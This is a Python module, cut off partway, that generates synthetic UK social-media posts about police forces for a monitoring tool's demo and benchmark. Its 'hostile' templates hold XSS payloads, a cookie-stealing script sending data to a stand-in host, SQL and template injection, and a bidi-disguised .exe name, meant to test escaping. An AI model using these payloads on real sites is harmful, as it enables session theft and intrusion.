"""Seeded generator of synthetic UK social-media posts for Bluelamp.

Everything this module produces is SYNTHETIC. The posts are assembled from templates,
word lists and real UK place names by a seeded ``random.Random``; no post, author, name
or account belongs to a real person, and no real data is read, downloaded or copied.
Every record carries ``synthetic: True`` and every ``url`` points at the reserved
``example.invalid`` domain, so a record can never link to a real account.

It exists for two jobs:

* the bundled demo stream, shown when the monitor runs without network access or
  platform credentials (the UI labels it as synthetic), and
* realistic bulk input, e.g. 100,000 posts for the indexing benchmark.

Records follow Bluelamp's import format (``platform``, ``id``, ``text``, ``created_at``,
plus optional ``author_handle``, ``author_name``, ``url``, ``lang``, ``lat``, ``lon``),
with three extra keys: ``synthetic``, ``demo_kind`` (which content kind produced the
post, one of :data:`KINDS`) and ``demo_force`` (the police force the post is about, or
``None`` for chatter that names no place). The last two are ground-truth labels for
tests and evaluation.

The mix mirrors a real stream: mostly noise (off-topic chatter), then crime and witness
reports, rumours, complaints, community events and praise, and about 1% deliberately
hostile text (HTML/script injection, zero-width and bidi control characters, query
syntax) so that the UI and search paths can prove they escape and neutralise it.

Output is fully deterministic for a given seed and arguments: the default ``end`` is a
fixed instant, not "now". Only the standard library is used.
"""

from __future__ import annotations

import argparse
import bisect
import json
import math
import random
import sys
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

__all__ = ["DEFAULT_END", "KINDS", "KIND_SHARES", "generate_posts", "main", "write_jsonl"]

#: Fixed default end of the time window, so output does not depend on the clock.
DEFAULT_END = datetime(2026, 11, 27, 18, 0, 0, tzinfo=UTC)

#: Content kinds, in a stable order.
KINDS: tuple[str, ...] = (
    "crime_report",
    "community_event",
    "complaint",
    "praise",
    "rumour",
    "chatter",
    "hostile",
)

#: Intended share of each kind (sums to 1).
KIND_SHARES: dict[str, float] = {
    "crime_report": 0.25,
    "community_event": 0.10,
    "complaint": 0.12,
    "praise": 0.08,
    "rumour": 0.14,
    "chatter": 0.30,
    "hostile": 0.01,
}

PLATFORMS: tuple[str, ...] = ("bluesky", "mastodon", "x", "reddit")
_PLATFORM_WEIGHTS: tuple[float, ...] = (0.25, 0.15, 0.35, 0.25)

_GEOTAG_RATE = 0.15  # of posts tied to a force; ~12% of all posts
_CHATTER_PLACED_RATE = 0.4  # share of chatter that names a place
_AUTHOR_POOL = 2500
_HOME_FORCE_RATE = 0.9
_WELSH_AUTHOR_RATE = 0.3  # of authors homed on a Welsh force
_WELSH_POST_RATE = 0.75  # of a Welsh-speaking author's posts about a Welsh force


# --------------------------------------------------------------------------- places


@dataclass(frozen=True, slots=True)
class _Place:
    name: str
    lat: float
    lon: float
    streets: tuple[str, ...] = ()
    landmarks: tuple[str, ...] = ()
    cy_name: str = ""  # Welsh name, Wales only
    cy_in: str = ""  # "in <place>" in Welsh, with the right mutation


@dataclass(frozen=True, slots=True)
class _Force:
    name: str
    handle: str
    weight: float
    places: tuple[_Place, ...]
    subreddits: tuple[str, ...]
    teams: tuple[str, ...]
    welsh: bool = False


_P = _Place

FORCES: tuple[_Force, ...] = (
    _Force(
        "Greater Manchester Police",
        "gmpolice",
        0.16,
        (
            _P("Deansgate", 53.4794, -2.2497, ("Deansgate", "Quay Street"), ("Beetham Tower",)),
            _P("Moss Side", 53.4600, -2.2370, ("Princess Road", "Claremont Road"), ("Alex Park",)),
            _P(
                "Piccadilly Gardens",
                53.4810,
                -2.2367,
                ("Market Street", "Oldham Street"),
                ("the tram stop", "the bus station"),
            ),
            _P(
                "Salford", 53.4875, -2.2901, ("Chapel Street", "Eccles New Road"), ("the precinct",)
            ),
            _P("Stockport", 53.4084, -2.1493, ("Merseyway", "Wellington Road"), ("the viaduct",)),
            _P("Oldham", 53.5409, -2.1114, ("Yorkshire Street", "Union Street"), ("Spindles",)),
            _P("Rochdale", 53.6097, -2.1561, ("Drake Street", "Yorkshire Street")),
            _P("Wigan", 53.5451, -2.6325, ("Wallgate", "Standishgate"), ("the pier",)),
            _P("Bolton", 53.5769, -2.4282, ("Bradshawgate", "Deansgate"), ("the interchange",)),
        ),
        ("manchester", "salford", "bolton"),
        ("city", "united", "wigan athletic", "bolton", "stockport county", "oldham"),
    ),
    _Force(
        "West Midlands Police",
        "WMPolice",
        0.14,
        (
            _P(
                "Birmingham",
                52.4797,
                -1.9026,
                ("Broad Street", "New Street", "Corporation Street"),
                ("the Bullring", "New Street station"),
            ),
            _P("Digbeth", 52.4751, -1.8836, ("Digbeth High Street", "Bradford Street"), ()),
            _P("Coventry", 52.4068, -1.5197, ("Far Gosford Street", "Hertford Street"), ()),
            _P(
                "Wolverhampton",
                52.5862,
                -2.1288,
                ("Dudley Street", "Lichfield Street"),
                ("the Molineux",),
            ),
            _P("Handsworth", 52.5049, -1.9306, ("Soho Road",), ("Handsworth Park",)),
        ),
        ("brum", "coventry", "wolverhampton"),
        ("villa", "blues", "wolves", "coventry", "west brom"),
    ),
    _Force(
        "Metropolitan Police",
        "metpoliceuk",
        0.22,
        (
            _P(
                "Brixton",
                51.4613,
                -0.1156,
                ("Coldharbour Lane", "Electric Avenue", "Brixton Road"),
                ("the tube station", "Windrush Square"),
            ),
            _P("Hackney", 51.5450, -0.0553, ("Mare Street", "Kingsland Road"), ("London Fields",)),
            _P("Croydon", 51.3762, -0.0982, ("North End", "London Road"), ("West Croydon",)),
            _P(
                "Camden",
                51.5390,
                -0.1426,
                ("Camden High Street", "Chalk Farm Road"),
                ("Camden Market",),
            ),
            _P("Tottenham", 51.5975, -0.0681, ("High Road", "Bruce Grove"), ("the Spurs ground",)),
            _P("Peckham", 51.4740, -0.0690, ("Rye Lane",), ("Peckham Rye",)),
        ),
        ("london", "brixton", "croydon"),
        ("arsenal", "spurs", "chelsea", "palace", "west ham", "millwall"),
    ),
    _Force(
        "West Yorkshire Police",
        "WestYorksPolice",
        0.12,
        (
            _P(
                "Leeds",
                53.7997,
                -1.5492,
                ("Briggate", "Call Lane", "Kirkgate"),
                ("the Corn Exchange", "Kirkgate Market"),
            ),
            _P("Bradford", 53.7960, -1.7594, ("Leeds Road", "Manningham Lane"), ("City Park",)),
            _P("Huddersfield", 53.6458, -1.7850, ("Westgate", "John William Street"), ()),
            _P("Wakefield", 53.6833, -1.4977, ("Westgate", "Kirkgate"), ()),
        ),
        ("leeds", "bradford", "huddersfield"),
        ("leeds", "bradford city", "huddersfield", "the rhinos"),
    ),
    _Force(
        "Merseyside Police",
        "MerseyPolice",
        0.10,
        (
            _P(
                "Liverpool",
                53.4084,
                -2.9916,
                ("Bold Street", "Lime Street", "Church Street"),
                ("Lime Street station", "the Albert Dock"),
            ),
            _P("Toxteth", 53.3950, -2.9700, ("Lodge Lane", "Granby Street", "Princes Road"), ()),
            _P("Birkenhead", 53.3934, -3.0148, ("Grange Road", "Borough Road"), ("the ferry",)),
            _P("Anfield", 53.4308, -2.9608, ("Walton Breck Road",), ("Stanley Park",)),
        ),
        ("liverpool", "wirral"),
        ("everton", "liverpool", "tranmere"),
    ),
    _Force(
        "Gwent Police",
        "gwentpolice",
        0.07,
        (
            _P(
                "Newport",
                51.5842,
                -2.9977,
                ("Commercial Street", "Caerleon Road"),
                ("Friars Walk",),
                "Casnewydd",
                "yng Nghasnewydd",
            ),
            _P(
                "Cwmbran",
                51.6530,
                -3.0210,
                (),
                ("the shopping centre",),
                "Cwmbrân",
                "yng Nghwmbrân",
            ),
            _P("Pontypool", 51.7030, -3.0410, (), (), "Pont-y-pŵl", "ym Mhont-y-pŵl"),
            _P("Ebbw Vale", 51.7770, -3.2070, (), (), "Glynebwy", "yng Nglynebwy"),
        ),
        ("newport", "wales"),
        ("newport county", "the dragons"),
        welsh=True,
    ),
    _Force(
        "South Wales Police",
        "swpolice",
        0.09,
        (
            _P(
                "Cardiff",
                51.4816,
                -3.1791,
                ("Queen Street", "St Mary Street", "City Road", "Cowbridge Road East"),
                ("the castle", "Cardiff Central"),
                "Caerdydd",
                "yng Nghaerdydd",
            ),
            _P(
                "Swansea",
                51.6214,
                -3.9436,
                ("Wind Street", "Oxford Street", "the Kingsway"),
                ("the Quadrant",),
                "Abertawe",
                "yn Abertawe",
            ),
            _P("Merthyr Tydfil", 51.7480, -3.3780, (), (), "Merthyr Tudful", "ym Merthyr Tudful"),
            _P(
                "Bridgend", 51.5040, -3.5770, (), (), "Pen-y-bont ar Ogwr", "ym Mhen-y-bont ar Ogwr"
            ),
        ),
        ("cardiff", "swansea", "wales"),
        ("cardiff city", "swansea", "the ospreys", "cardiff blues"),
        welsh=True,
    ),
    _Force(
        "Police Scotland",
        "PoliceScotland",
        0.10,
        (
            _P(
                "Glasgow",
                55.8642,
                -4.2518,
                ("Sauchiehall Street", "Buchanan Street", "Argyle Street"),
                ("Central Station", "George Square"),
            ),
            _P(
                "Edinburgh",
                55.9533,
                -3.1883,
                ("Princes Street", "Leith Walk", "the Royal Mile"),
                ("Waverley", "the Meadows"),
            ),
            _P("Dundee", 56.4620, -2.9707, ("the Perth Road",), ()),
            _P("Aberdeen", 57.1497, -2.0943, ("Union Street",), ()),
        ),
        ("glasgow", "edinburgh", "scotland"),
        ("celtic", "rangers", "hearts", "hibs", "aberdeen"),
    ),
)

_GENERIC_STREETS: tuple[str, ...] = (
    "High Street",
    "Station Road",
    "Church Street",
    "Victoria Road",
    "Park Lane",
    "Mill Lane",
    "Queen Street",
    "King Street",
    "Albert Road",
    "the main road",
    "Grove Street",
    "New Road",
)
_GENERIC_LANDMARKS: tuple[str, ...] = (
    "the big tesco",
    "the bus station",
    "the retail park",
    "the leisure centre",
    "the chippy",
    "the corner shop",
    "the park",
    "the library",
    "the primary school",
    "the mcdonalds",
    "the spoons",
    "the co-op",
    "the college",
)
_CY_STREETS: tuple[str, ...] = ("Stryd Fawr", "Heol yr Orsaf", "Heol y Parc", "Heol yr Eglwys")
_CY_LANDMARKS: tuple[str, ...] = (
    "y siop",
    "yr orsaf fysiau",
    "y parc",
    "yr ysgol",
    "y dafarn",
    "y ganolfan hamdden",
)

# --------------------------------------------------------------------------- word lists

_FIRST_NAMES: tuple[str, ...] = (
    "Jack", "Olivia", "Mohammed", "Amelia", "Harry", "Isla", "Oliver", "Ava", "Noah", "Mia",
    "Leo", "Freya", "Aisha", "Kai", "Ellie", "Callum", "Priya", "Connor", "Zara", "Dylan",
    "Rhys", "Ffion", "Cerys", "Gareth", "Siân", "Iwan", "Morag", "Fraser", "Eilidh", "Ewan",
    "Sophie", "Tom", "Jade", "Liam", "Chloe", "Dean", "Kelly", "Yusuf", "Grace", "Tyler",
)  # fmt: skip
_SURNAMES: tuple[str, ...] = (
    "Smith", "Jones", "Williams", "Taylor", "Brown", "Davies", "Evans", "Khan", "Patel",
    "Wilson", "Thomas", "Roberts", "Walker", "Wright", "Hughes", "Campbell", "Murray",
    "Begum", "Hussain", "Okafor", "Clarke", "Lewis", "Morgan", "Reid", "Price", "Ahmed",
)  # fmt: skip
_NICK_WORDS: tuple[str, ...] = (
    "mum", "dad", "lad", "gran", "bluenose", "red", "runner", "cyclist", "dogwalker",
    "baker", "gamer", "nurse", "sparky", "brickie", "cabbie", "foodie", "local", "geezer",
)  # fmt: skip
_DAYS: tuple[str, ...] = (
    "monday", "tuesday", "wednesday", "thursday", "friday", "saturday", "sunday",
)  # fmt: skip
_CY_NIGHT_DAYS: tuple[str, ...] = ("Lun", "Fawrth", "Fercher", "Iau", "Wener", "Sadwrn", "Sul")
_TIMES: tuple[str, ...] = (
    "about 10 mins ago", "just now", "last night", "around 11pm", "this morning",
    "at about 3am", "earlier today", "around half 4", "tonight",
)  # fmt: skip
_VEHICLES: tuple[str, ...] = (
    "white transit", "black golf", "grey audi", "silver corsa", "red fiesta",
    "black range rover", "blue bmw", "white merc van",
)  # fmt: skip
_CLOTHING: tuple[str, ...] = (
    "a black north face coat and grey joggers", "a navy school blazer",
    "a red puffer jacket and jeans", "a grey hoodie and white trainers",
    "a green parka and black jeans",
)  # fmt: skip
_ITEMS: tuple[str, ...] = (
    "the car keys", "two laptops", "my bike", "the telly", "my nan's jewellery",
    "the lads' xbox", "a parcel off the step",
)  # fmt: skip
_VENUES: tuple[str, ...] = (
    "the library", "the community centre", "st mark's church hall", "the mosque hall",
    "the leisure centre", "the big tesco foyer", "the youth club",
)  # fmt: skip
_CHARITIES: tuple[str, ...] = (
    "the local hospice", "the children's hospital", "the food bank", "a mental health charity",
    "the mountain rescue team",
)  # fmt: skip
_FESTIVALS: tuple[str, ...] = (
    "christmas lights switch-on", "christmas market", "winter food festival",
    "bonfire night display", "mela", "lantern parade",
)  # fmt: skip
_ZW_WORDS_A: tuple[str, ...] = ("police", "coppers", "feds", "pigs")
_ZW_WORDS_B: tuple[str, ...] = ("joke", "disgrace", "shambles", "useless")
_ZERO_WIDTH: tuple[str, ...] = ("\u200b", "\u200d", "\ufeff")

# --------------------------------------------------------------------------- templates
# Slots in braces are filled lazily (see _SLOT_MAKERS); literal braces are doubled.

_EN: dict[str, tuple[str, ...]] = {
    "crime_report": (
        (
            "just come out to find my car window smashed on {street} in {place}. nothing even in "
            "it {handle}"
        ),
        (
            "someone's tried every car door on {street} {time}, caught him on the ring doorbell. "
            "{place} lock your cars"
        ),
        (
            "two lads on a moped just snatched a woman's phone on {street} in {place}, went off "
            "towards {landmark}. she's ok but shaken {handle}"
        ),
        (
            "moped riders doing phone snatches near {landmark} again. {place} keep your phone in "
            "your pocket"
        ),
        (
            "lad waving a knife about outside {landmark} in {place} {time}. police on the way i "
            "think, stay away"
        ),
        "saw someone with a machete down {street}, {place}. rang 999 {handle}",
        (
            "we got burgled {time} in {place}, they took {item}. if anyone on {street} has camera "
            "footage please message me {handle}"
        ),
        "house on {street} broken into while they were at work. third one this month in {place}",
        (
            "dealing going on in the park off {street} every single night. {place} kids play there "
            "{handle}"
        ),
        (
            "same {vehicle} parks up outside {landmark} every evening and people queue at the "
            "window. it's obvious what's going on {handle}"
        ),
        (
            "cars racing up and down {street} in {place} again at 2am, someone's going to get "
            "killed {handle}"
        ),
        (
            "{vehicle} doing at least 60 past the primary school on {street}. {place} needs speed "
            "cameras"
        ),
        (
            "MISSING: {first}, {age}, last seen in {place} near {street} on {day}. wearing "
            "{clothing}. please share and call 101 quoting log {log}"
        ),
        (
            "please share - my cousin {first} ({age}) hasn't been home since {day}, last seen "
            "around {landmark} in {place} {handle}"
        ),
        (
            "scam warning: someone going door to door in {place} saying they're from the water "
            "board. ask for id! {handle}"
        ),
        (
            "my nan just got a call from 'the bank' telling her to move her savings to a safe "
            "account. SCAM. {place} warn your parents {handle}"
        ),
        "got a text saying my parcel needs a redelivery fee, it's a scam don't click the link",
        "group of teenagers throwing stones at buses on {street} in {place} {time}",
        "fireworks being thrown at cars on {street}, {place}. someone will lose an eye {handle}",
        "bike nicked from outside {landmark} in {place} {time}. cut straight through the lock",
        "shoplifters cleared the shelves in {landmark} {place} {time}, staff can't do anything",
        "someone set fire to the bins behind {landmark} in {place}, fire brigade here now",
    ),
    "community_event": (
        "{place} police surgery this {day} 10-12 at {venue}, come and say hi {handle}",
        (
            "street meet with the neighbourhood team on {street}, {place}, {day} at 6pm. bring "
            "your questions"
        ),
        (
            "charity 5k fun run in {place} on sunday raising money for {charity}. some officers "
            "running in full kit!"
        ),
        "{place} {festival} this weekend, roads closed around {street} from 4pm {handle}",
        "free bike marking at {venue} in {place} on {day}, bring proof of ownership {handle}",
        "cuppa with a copper at {venue} {day} morning. {place} residents welcome",
        "litter pick on {street} {place} this {day}, local pcsos joining us. gloves provided",
        (
            "{place} residents meeting at {venue} on {day} about the antisocial behaviour, police "
            "attending"
        ),
        "knife crime awareness talk for parents at {venue}, {place}, {day} 7pm",
    ),
    "complaint": (
        "rang 101 at 9 and still on hold {mins} mins later {handle} absolute joke",
        "reported my car stolen three weeks ago in {place} and heard nothing back {handle}",
        (
            "police car parked on the double yellows outside {landmark} in {place} again while "
            "they get their sausage rolls"
        ),
        (
            "took four hours for anyone to turn up after my neighbour got burgled on {street}. "
            "{place} deserves better"
        ),
        "why is there never any police about in {place} when you actually need them",
        "online reporting form crashed twice, gave up {handle}",
        (
            "sent dashcam footage of a dangerous driver on {street} and got 'no further action'. "
            "what's the point {handle}"
        ),
        (
            "waited in for officers who never turned up. {mins} mins on 101 to be told nobody's "
            "available"
        ),
        "every night boy racers on {street} in {place} and {handle} just don't care",
        "they close the front counter at {place} station and then tell us to report in person?",
    ),
    "praise": (
        (
            "massive thanks to the officers who helped my nan after her fall on {street} today "
            "{handle}"
        ),
        "shoutout to pc {surname} in {place}, went above and beyond for my family this week",
        (
            "the neighbourhood team in {place} finally got the dealers out of the park, actually "
            "noticed a difference {handle}"
        ),
        "officers got my lad home safe {time}, can't thank you enough {handle}",
        "fair play to {handle}, there in five minutes when we called about {street}",
        (
            "found my stolen bike on marketplace, police in {place} went round and got it back "
            "same day"
        ),
        (
            "lovely officer stopped to chat with the kids outside {landmark} in {place}, made "
            "their day"
        ),
        "good to see foot patrols back on {street} in {place}",
    ),
    "rumour": (
        (
            "apparently someone got stabbed outside {landmark} in {place}, police everywhere, "
            "anyone know??"
        ),
        "heard there's a gang marking houses in {place} with chalk for burglaries, share!!",
        "someone said there's been a shooting on {street} in {place} but nothing on the news",
        "my mate says the police are covering up what happened at {landmark} in {place}",
        "is it true they've shut {street} because of a bomb scare?",
        (
            "white van going round {place} trying to snatch kids near {landmark} - not confirmed "
            "but please share"
        ),
        "loads of police cars and a helicopter over {place} {time}, what's going on",
        (
            "heard the {vehicle} is being used for kidnappings round {place}. police won't say "
            "anything"
        ),
        (
            "apparently they've arrested someone for the thing on {street} but the police are "
            "saying nothing {handle}"
        ),
        "word is there's going to be trouble in {place} town centre on {day}, stay away",
        "people saying the fire at {landmark} in {place} was started deliberately",
    ),
    "hostile": (
        "{handle} <script>alert(1)</script> catch me if you can lol",
        "coppers in {place} are useless <img src=x onerror=alert(1)>",
        "the {zw_a} in {place} are a {zw_b}, try and filter this {handle}",
        "leaked pic from {place} nick: photo_\u202egpj.exe open it",
        'try searching for this {handle}: title:(a OR b) AND "x',
        (
            '"><script>fetch("https://evil.example.invalid/?c="+document.cookie)</script> {place} '
            "stay winning"
        ),
        "<svg onload=alert(document.domain)> {handle} hire better devs",
        "'; DROP TABLE posts; -- {handle} <script>alert('pwned')</script>",
        "{{{{7*7}}}} ${{7*7}} <b>bold</b> {handle} let's see if your app breaks",
        "f\ufeffree spe\u200bech in {place}, {zw_a} can't read this",
        'real footage from {place}: javascript:alert(1) or search text:(* OR *) AND "',
        "\u202e{handle} ecilop {place}",
    ),
}
_EN_CHATTER_PLACELESS: tuple[str, ...] = (
    "is it too early to put the christmas tree up",
    "cannot believe it's dark at 4pm already",
    "bake off final tonight!!! who's watching",
    "train cancelled again. love it here",
    "made a lasagne. it's fine. it's a lasagne",
    "the dog has eaten a whole sock and seems fine??",
    "fantasy football team is an absolute disaster this week",
    "why is a meal deal nearly a fiver now",
    "frost on the car this morning, winter is here",
    "monday again. need coffee",
    "anyone else's wifi down or just me",
    "sunday roast sorted. yorkshires the size of my head",
    "rewatching line of duty, ted hastings is a legend",
    "police academy is on itv4 and honestly it holds up",
    "kids off school for an inset day again??",
    "can't believe the price of petrol",
    "the new series everyone's on about is actually good",
    "got the heating on and i refuse to feel guilty",
    "3-0 and we still nearly bottled it",
    "whoever invented the air fryer deserves a knighthood",
)
_EN_CHATTER_PLACED: tuple[str, ...] = (
    "{team} were shocking today, what was that second half",
    "best chippy in {place}? asking for a friend",
    "absolutely chucking it down in {place} again",
    "traffic on {street} is a nightmare this morning, avoid if you can",
    "anyone know if the bins are being collected on {day} in {place}? council website says nothing",
    "new coffee place opened near {landmark} in {place}, actually decent",
    "{team} away end was bouncing",
    "lovely walk round {place} today, sun actually came out",
    "{place} {festival} was class this year",
    "roadworks on {street} AGAIN. {place} council sort it out",
    "who's going to the {team} game {day}? need a lift from {place}",
)
_CY: dict[str, tuple[str, ...]] = {
    "crime_report": (
        (
            "Car wedi cael ei dorri i mewn ar {street_cy} {in_place_cy} neithiwr. Byddwch yn "
            "ofalus pawb {handle}"
        ),
        "Dau fachgen ar foped newydd ddwyn ffôn menyw ar {street_cy} {in_place_cy} {handle}",
        (
            "Apêl: mae {first} ({age}) ar goll {in_place_cy} ers nos {day_cy}. Rhannwch os gwelwch "
            "yn dda {handle}"
        ),
        (
            "Rhybudd sgam {in_place_cy}: rhywun yn ffonio yn esgus bod o'r banc. Peidiwch â rhoi "
            "eich manylion! {handle}"
        ),
        "Ceir yn rasio ar {street_cy} eto heno, mae rhywun yn mynd i gael ei ladd {handle}",
        (
            "Lladron wedi torri i mewn i'n tŷ ni {in_place_cy} neithiwr. Os oes gan unrhyw un "
            "gamera drws ar {street_cy}, cysylltwch plîs"
        ),
        (
            "Pobl yn delio cyffuriau yn y parc ger {street_cy} bob nos. Mae plant yn chwarae yno "
            "{handle}"
        ),
    ),
    "community_event": (
        "Cymhorthfa heddlu {in_place_cy} ddydd Sadwrn 10-12, dewch draw am sgwrs {handle}",
        "Ras hwyl 5k {in_place_cy} ddydd Sul er budd yr hosbis leol. Swyddogion yn rhedeg hefyd!",
        "Paned gyda'r heddlu yn {landmark_cy} fore Mercher. Croeso i bawb {handle}",
        "Gŵyl fwyd {in_place_cy} y penwythnos yma! Ffyrdd ar gau o gwmpas {street_cy}",
    ),
    "complaint": (
        "Aros dros awr ar y ffôn i 101 eto. Dim digon da {handle}",
        "Pam does byth heddlu o gwmpas {in_place_cy} pan rydych eu hangen nhw?",
        "Car heddlu wedi parcio ar y llinellau melyn dwbl ar {street_cy} eto",
        "Adroddais fod fy meic wedi'i ddwyn dair wythnos yn ôl a dim byd ers hynny {handle}",
    ),
    "praise": (
        "Diolch o galon i'r swyddogion a helpodd fy mam-gu ar {street_cy} heddiw {handle}",
        "Tîm plismona'r gymdogaeth {in_place_cy} yn gwneud gwaith gwych, diolch {handle}",
        "Chwarae teg i {handle}, yno mewn pum munud",
    ),
    "rumour": (
        (
            "Clywed bod rhywun wedi cael ei drywanu {in_place_cy} ond dim byd ar y newyddion. "
            "Unrhyw un yn gwybod?"
        ),
        "Llwyth o geir heddlu ar {street_cy} {in_place_cy}, beth sy'n digwydd??",
        (
            "Mae rhywun yn dweud bod fan wen yn dilyn plant ger {landmark_cy} - heb ei gadarnhau, "
            "ond byddwch yn ofalus"
        ),
    ),
}
_CY_CHATTER_PLACELESS: tuple[str, ...] = (
    "Tywydd ofnadwy heddiw",
    "Gêm dda neithiwr! Cymru am byth",
    "Pwy sy'n gwylio'r rygbi heno?",
    "Angen paned cyn y cyfarfod nesa",
)
_CY_CHATTER_PLACED: tuple[str, ...] = (
    "Tywydd ofnadwy {in_place_cy} heddiw",
    "Sglodion gorau {in_place_cy}? Argymhellion plîs",
)

_HASHTAGS: dict[str, tuple[str, ...]] = {
    "crime_report": ("#share", "#police", "#crime", "#staysafe", "#pleaseshare"),
    "community_event": ("#community", "#neighbourhoodpolicing", "#event", "#getinvolved"),
    "complaint": ("#101", "#fail", "#police"),
    "praise": ("#thankyou", "#police", "#community"),
    "rumour": ("#breaking", "#share", "#anyoneknow"),
    "chatter": ("#justsaying", "#uk", "#life", "#random"),
    "hostile": (),
}
_EMOJI: dict[str, tuple[str, ...]] = {
    "crime_report": ("😡", "😢", "🚨", "⚠️", "🙏"),
    "community_event": ("👍", "🏃", "☕", "🎄", "😊"),
    "complaint": ("🙄", "😤", "🤦", "😠"),
    "praise": ("💙", "🙏", "👏", "❤️", "😊"),
    "rumour": ("👀", "😳", "🤔", "😱"),
    "chatter": ("😂", "🙃", "🤷", "😴", "😅"),
    "hostile": (),
}
_ABBREVIATIONS: tuple[tuple[str, str], ...] = (
    (" you ", " u "),
    (" your ", " ur "),
    (" because ", " cos "),
    (" tonight", " tonite"),
    (" please ", " pls "),
    (" people ", " ppl "),
    (" with ", " w/ "),
)
_REDDIT_EDITS: tuple[str, ...] = (
    "edit: typo",
    "edit: thanks for all the replies",
    "edit: police have been in touch now",
    "edit: yes i've reported it",
)

# --------------------------------------------------------------------------- slots


def _street(rng: random.Random, force: _Force, place: _Place) -> str:
    if place.streets and rng.random() < 0.6:
        return rng.choice(place.streets)
    return rng.choice(_GENERIC_STREETS)


def _landmark(rng: random.Random, force: _Force, place: _Place) -> str:
    if place.landmarks and rng.random() < 0.4:
        return rng.choice(place.landmarks)
    return rng.choice(_GENERIC_LANDMARKS)


def _zw_word(words: tuple[str, ...]) -> Callable[[random.Random, _Force, _Place], str]:
    def make(rng: random.Random, force: _Force, place: _Place) -> str:
        word = rng.choice(words)
        cut = rng.randint(1, len(word) - 1)
        return word[:cut] + rng.choice(_ZERO_WIDTH) + word[cut:]

    return make


_SlotMaker = Callable[[random.Random, _Force, _Place], str]

_SLOT_MAKERS: dict[str, _SlotMaker] = {
    "place": lambda rng, f, p: p.name,
    "street": _street,
    "landmark": _landmark,
    "handle": lambda rng, f, p: "@" + f.handle,
    "team": lambda rng, f, p: rng.choice(f.teams),
    "day": lambda rng, f, p: rng.choice(_DAYS),
    "time": lambda rng, f, p: rng.choice(_TIMES),
    "first": lambda rng, f, p: rng.choice(_FIRST_NAMES),
    "surname": lambda rng, f, p: rng.choice(_SURNAMES).lower(),
    "age": lambda rng, f, p: str(rng.randint(11, 84)),
    "clothing": lambda rng, f, p: rng.choice(_CLOTHING),
    "vehicle": lambda rng, f, p: rng.choice(_VEHICLES),
    "item": lambda rng, f, p: rng.choice(_ITEMS),
    "venue": lambda rng, f, p: rng.choice(_VENUES),
    "charity": lambda rng, f, p: rng.choice(_CHARITIES),
    "festival": lambda rng, f, p: rng.choice(_FESTIVALS),
    "mins": lambda rng, f, p: str(rng.randint(25, 95)),
    "log": lambda rng, f, p: str(rng.randint(100, 2999)),
    "place_cy": lambda rng, f, p: p.cy_name or p.name,
    "in_place_cy": lambda rng, f, p: p.cy_in or ("yn " + p.name),
    "street_cy": lambda rng, f, p: rng.choice(_CY_STREETS),
    "landmark_cy": lambda rng, f, p: rng.choice(_CY_LANDMARKS),
    "day_cy": lambda rng, f, p: rng.choice(_CY_NIGHT_DAYS),
    "zw_a": _zw_word(_ZW_WORDS_A),
    "zw_b": _zw_word(_ZW_WORDS_B),
}


class _Slots(dict[str, str]):
    """Template values, made on first use (so unused slots cost nothing)."""

    __slots__ = ("_force", "_place", "_rng")

    def __init__(self, rng: random.Random, force: _Force, place: _Place) -> None:
        super().__init__()
        self._rng = rng
        self._force = force
        self._place = place

    def __missing__(self, key: str) -> str:
        value = _SLOT_MAKERS[key](self._rng, self._force, self._place)
        self[key] = value
        return value


# --------------------------------------------------------------------------- authors


@dataclass(frozen=True, slots=True)
class _Author:
    platform: str
    handle: str
    name: str
    force: int
    welsh: bool
    instance: str  # mastodon instance host; "" elsewhere


def _make_author(rng: random.Random) -> _Author:
    force_idx = _weighted_force(rng)
    force = FORCES[force_idx]
    platform = rng.choices(PLATFORMS, _PLATFORM_WEIGHTS)[0]
    first = rng.choice(_FIRST_NAMES)
    surname = rng.choice(_SURNAMES)
    place = rng.choice(force.places).name
    style = rng.randrange(5)
    if style == 0:
        name, base = f"{first} {surname}", f"{first}{surname}{rng.randint(1, 99)}"
    elif style == 1:
        name, base = f"{first} {surname[0]}", f"{first}_{surname[0]}{rng.randint(70, 99)}"
    elif style == 2:
        nick = rng.choice(_NICK_WORDS)
        name, base = f"{place} {nick.title()}", f"{place}{nick}"
    elif style == 3:
        name, base = first, f"{first}{rng.choice(_NICK_WORDS)}{rng.randint(1, 999)}"
    else:
        name, base = f"{first} ({place})", f"{surname}{first[0]}"
    base = "".join(ch for ch in base.lower() if ch.isascii() and (ch.isalnum() or ch == "_"))
    instance = ""
    if platform == "bluesky":
        handle = f"{base}.bsky.example.invalid"
    elif platform == "mastodon":
        instance = rng.choice(
            ("mastodon.example.invalid", "social.example.invalid", "toot.example.invalid")
        )
        handle = f"{base}@{instance}"
    else:
        handle = base[:15] if platform == "x" else base
    welsh = force.welsh and rng.random() < _WELSH_AUTHOR_RATE
    return _Author(platform, handle, name, force_idx, welsh, instance)


_FORCE_CUM: tuple[float, ...] = tuple(
    sum(f.weight for f in FORCES[: i + 1]) / sum(f.weight for f in FORCES)
    for i in range(len(FORCES))
)


def _weighted_force(rng: random.Random) -> int:
    return min(bisect.bisect_right(_FORCE_CUM, rng.random()), len(FORCES) - 1)


def _url_prefix(author: _Author) -> str:
    """URL up to the post id (reddit URLs depend on the post, so they are built later)."""
    if author.platform == "bluesky":
        return f"https://bluesky.example.invalid/profile/{author.handle}/post/"
    if author.platform == "mastodon":
        return f"https://{author.instance}/@{author.handle.split('@', 1)[0]}/"
    return f"https://{author.platform}.example.invalid/{author.handle}/status/"


_TABLE_SIZE = 1000


def _kind_table() -> tuple[str, ...]:
    total = sum(KIND_SHARES.values())
    table: list[str] = []
    for kind in KINDS:
        table.extend([kind] * round(KIND_SHARES[kind] / total * _TABLE_SIZE))
    table.extend([KINDS[0]] * (_TABLE_SIZE - len(table)))
    return tuple(table[:_TABLE_SIZE])


_KIND_TABLE = _kind_table()
_MENTION_KINDS = frozenset({"crime_report", "complaint", "praise"})
_PLACE_SUBREDDITS: dict[str, tuple[str, ...]] = {
    p.name: ((p.name.lower(),) if p.name.lower() in f.subreddits else f.subreddits)
    for f in FORCES
    for p in f.places
}


# --------------------------------------------------------------------------- time


_HOUR_WEIGHTS: tuple[float, ...] = (
    0.7, 0.45, 0.3, 0.2, 0.2, 0.3, 0.6, 1.0, 1.4, 1.5, 1.5, 1.6,
    1.8, 1.7, 1.6, 1.6, 1.8, 2.0, 2.2, 2.4, 2.5, 2.3, 1.8, 1.1,
)  # fmt: skip


def _time_warp(start: datetime, span_s: float) -> Callable[[float], float]:
